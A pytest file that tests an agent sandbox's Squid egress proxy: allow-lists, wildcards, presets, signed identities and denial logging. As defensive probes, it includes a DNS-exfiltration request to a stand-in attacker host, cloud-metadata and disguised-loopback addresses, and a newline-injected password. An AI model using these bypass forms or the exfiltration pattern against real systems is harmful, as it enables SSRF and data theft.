"""What the proxy lets through and what not, with a real Squid. A file of names stands in for name servers."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from coding_agent_core.egress import Role, password

from tests.fixtures.egress import KEY, EgressProxy, StartEgress, through
from tests.fixtures.system import until

_PRIVATE = "127.0.0.1"
_METADATA = "169.254.169.254"


@pytest.fixture(scope="module")
def machine() -> Iterator[int]:
    """A web server of another machine; its port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    yield server.server_port
    server.shutdown()


@pytest.fixture(scope="module")
def proxy(start_egress: StartEgress, machine: int) -> EgressProxy:
    """Names that end in `.inside` resolve to a private address."""
    names = (
        "packages.inside",
        "a.b.wild.inside",
        "wild.inside",
        "notwild.inside",
        "mine.inside",
        "closed.inside",
        "node.inside",
        "more.inside",
    )
    return start_egress(
        {
            "egress": {
                "allow": [
                    f"packages.inside:{machine}",
                    f"*.wild.inside:{machine}",
                    f"closed.inside:{machine}",
                    f"metadata.inside:{machine}",
                    f"*.1:{machine}",
                    "gone.invalid",
                ],
                "repositories": {"o/mine": [f"mine.inside:{machine}"]},
                "presets": {
                    "node": [f"node.inside:{machine}"],
                    "node-more": [f"more.inside:{machine}"],
                    "empty": [],
                },
                "private": [
                    "packages.inside",
                    "*.wild.inside",
                    "wild.inside",
                    "*.1",
                    "mine.inside",
                    "node.inside",
                    "more.inside",
                    "metadata.inside",
                ],
            },
            "llm": {"openai": {"base_url": f"http://model.inside:{machine}/v1", "api_key": "k"}},
        },
        {
            **dict.fromkeys((*names, "model.inside", "listed-nowhere.inside"), _PRIVATE),
            "metadata.inside": _METADATA,
        },
    )


def test_what_a_workspace_reaches(proxy: EgressProxy, machine: int) -> None:
    def status(host: str, **more: Any) -> int:
        return proxy.get(f"http://{host}:{machine}/", **more).status_code

    assert status("packages.inside") == 200
    assert status("PACKAGES.inside") == 200
    assert status("a.b.wild.inside") == 200
    assert status("wild.inside") == 403, "a wildcard is for what is below"
    assert status("notwild.inside") == 403
    assert status("mine.inside", repository="O/Mine") == 200
    assert status("mine.inside") == 403, "another repository's list"
    assert status("packages.inside", repository="o/mine") == 200, "the list for all holds too"
    assert status("closed.inside") == 403, "a private address that nobody has allowed"
    assert status("metadata.inside") == 403, "credentials of the node, whatever the settings say"
    assert status("model.inside") == 403, "the agent's alone"
    assert status("127.0.0.1") == 403
    assert status("[::1]") == 403
    assert status("2130706433") == 403, "127.0.0.1 in another form"


def test_ports_and_tunnels(proxy: EgressProxy, machine: int) -> None:
    assert proxy.get("http://packages.inside/").status_code == 403, (
        "plain HTTP to another port than the entry's"
    )
    assert proxy.get("https://packages.inside:22/").status_code == 403
    assert proxy.get("https://gone.invalid:22/").status_code == 403
    assert proxy.get("http://gone.invalid:443/").status_code == 403
    assert proxy.get("https://gone.invalid/").status_code == 500, "allowed, and there is no such machine"
    assert proxy.get("http://gone.invalid/").status_code == 502
    assert proxy.get("https://listed-nowhere.inside/").status_code == 403


def test_what_the_agent_reaches(proxy: EgressProxy, machine: int) -> None:
    def status(host: str) -> int:
        return proxy.get(f"http://{host}:{machine}/", role=Role.AGENT).status_code

    assert status("model.inside") == 200, "the settings name it, so it may be private"
    assert status("packages.inside") == 403
    assert status("listed-nowhere.inside") == 403


def test_the_answer_says_what_to_do(proxy: EgressProxy, machine: int) -> None:
    denied = proxy.get(f"http://listed-nowhere.inside:{machine}/").text
    assert "listed-nowhere.inside" in denied
    assert "egress.allow" in denied
    private = proxy.get(f"http://closed.inside:{machine}/").text
    assert "closed.inside" in private
    assert "egress.private" in private


def test_identities(proxy: EgressProxy, machine: int) -> None:
    def status(user: str, given: str) -> int:
        return through(
            f"http://{user}:{given}@{proxy.address}", f"http://packages.inside:{machine}/"
        ).status_code

    assert status("job-1.workspace", password("job-1.workspace", KEY)) == 200
    assert status("job-1.workspace", password("job-1.workspace", "another key")) == 407
    assert status("job-1.workspace", password("job-2.workspace", KEY)) == 407, "another attempt's"
    assert status("job-1.workspace", password("job-1.agent", KEY)) == 407, "another container's"
    assert status("job-1", password("job-1", KEY)) == 407, "no container"
    assert status("job-1.workspace", "%0a") == 407
    assert through(f"http://{proxy.address}", f"http://packages.inside:{machine}/").status_code == 407


def test_presets(proxy: EgressProxy, machine: int) -> None:
    def status(host: str, *presets: str, repository: str = "o/r") -> int:
        url = f"http://{host}.inside:{machine}/"
        return proxy.get(url, presets=presets, repository=repository).status_code

    assert status("node", "node") == 200
    assert status("node") == 403
    assert status("more", "node") == 403, "the beginning of another preset's name"
    assert status("node", "node-more") == 403
    assert status("more", "node-more") == 200
    assert [status(host, "empty", "node", "node-more") for host in ("node", "more")] == [200, 200]
    assert status("packages", "node") == 200, "the list for all holds too"
    assert status("mine", "node", repository="o/mine") == 200, "the repository's own too"
    assert status("node", "node", repository="o/mine") == 200
    assert status("mine", "node") == 403
    assert status("listed-nowhere", "node", "unknown") == 403
    assert status("node", "unknown") == 403


def test_nobody_can_take_a_preset(proxy: EgressProxy, machine: int) -> None:
    """The name is signed: a workspace that adds a preset to it has no password for it."""
    own = "job-1.workspace"

    def status(user: str, signed: str) -> int:
        login = f"{user}:{password(signed, KEY)}"
        return through(f"http://{login}@{proxy.address}", f"http://node.inside:{machine}/").status_code

    assert status(own, own) == 403
    assert status(f"{own}_node", own) == 407
    assert status(f"{own}_node-more_node", f"{own}_node-more") == 407
    assert status(own, f"{own}_node") == 407
    assert status("job-1.agent", "job-1.agent") == 403, "presets are the workspace's"


def test_denials_of_a_workspace_with_presets_are_its_attempts(proxy: EgressProxy) -> None:
    proxy.get("https://listed-nowhere.inside/", "told-3", presets=["node"])
    until(lambda: proxy.denials("told-3") == {"listed-nowhere.inside": 1}, "the denial is counted")


def test_an_agent_hears_what_was_denied_to_its_attempt(proxy: EgressProxy, machine: int) -> None:
    for _ in range(2):
        proxy.get("https://listed-nowhere.inside/", "told-1")
    proxy.get(f"http://packages.inside:{machine}/", "told-1")
    proxy.get("https://listed-nowhere.inside:2222/", "told-1", Role.AGENT)
    proxy.get("https://other.example.com/", "told-2")
    expected = {"listed-nowhere.inside": 2, "listed-nowhere.inside:2222": 1}
    until(lambda: proxy.denials("told-1") == expected, "the denials are counted")
    until(lambda: proxy.denials("told-2") == {"other.example.com": 1}, "another attempt's are apart")
    assert proxy.get("http://denials.egress.internal/", "told-1").status_code == 403, "not for the workspace"


def test_no_name_that_a_command_invents_is_resolved(proxy: EgressProxy) -> None:
    """A name server of the attacker's would read the secret in it."""
    proxy.get("https://the-secret.attacker.example/", "canary-1")
    entry = until(lambda: next((e for e in proxy.entries() if "canary" in e["user"]), None), "it is logged")
    assert entry["result"] == "TCP_DENIED"
    assert entry["user"] == "canary-1.workspace"
    assert entry["host"] == "the-secret.attacker.example"
    assert entry["address"] == "-"


def test_changed_settings_are_applied(proxy: EgressProxy, machine: int) -> None:
    url = f"http://listed-nowhere.inside:{machine}/"
    assert proxy.get(url).status_code == 403
    settings = proxy.settings
    more = {
        "allow": [*settings["egress"]["allow"], f"listed-nowhere.inside:{machine}"],
        "private": ["*.inside"],
    }
    proxy.write({**settings, "egress": {**settings["egress"], **more}})

    def allowed() -> bool:
        # For some milliseconds nothing listens, and what was not answered yet is cut off.
        with contextlib.suppress(httpx.TransportError):
            return proxy.get(url).status_code == 200
        return False

    until(allowed, "the host is allowed")
    url_of_agent = proxy.variables("job-1")["HTTP_PROXY"]
    proxy.write({**settings, "egress": {"allow": ["not a host"]}})
    until(lambda: "the old ones stay" in proxy.log(), "it says what is wrong")
    assert through(url_of_agent, url).status_code == 200
